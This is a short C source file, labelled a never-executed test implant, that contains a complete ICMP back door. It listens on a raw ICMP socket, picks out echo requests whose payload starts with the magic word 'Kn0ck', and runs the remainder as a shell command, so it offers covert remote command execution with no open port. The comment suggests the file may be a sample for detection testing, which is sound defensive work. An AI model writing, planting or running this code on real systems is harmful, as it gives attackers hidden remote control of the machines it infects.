/* Test implant (never executed): an ICMP back door. A raw ICMP socket
 * listens without any open port; an echo request whose payload starts with
 * a magic word carries a command, which a shell runs. No BPF filter: the
 * socket's arguments are the only sign (socket(AF_INET, SOCK_RAW,
 * IPPROTO_ICMP)). */
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

int main(void)
{
	unsigned char buf[1500];
	int s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	if (s < 0)
		return 1;
	for (;;) {
		ssize_t n = recvfrom(s, buf, sizeof(buf) - 1, 0, NULL, NULL);
		/* IP header (20) + ICMP header (8), then "Kn0ck" and a command */
		if (n < 34 || buf[20] != 8 || memcmp(buf + 28, "Kn0ck", 5) != 0)
			continue;
		buf[n] = 0;
		if (fork() == 0) {
			execl("/bin/sh", "sh", "-c", (char *)buf + 33, (char *)0);
			_exit(1);
		}
		wait(NULL);
	}
}
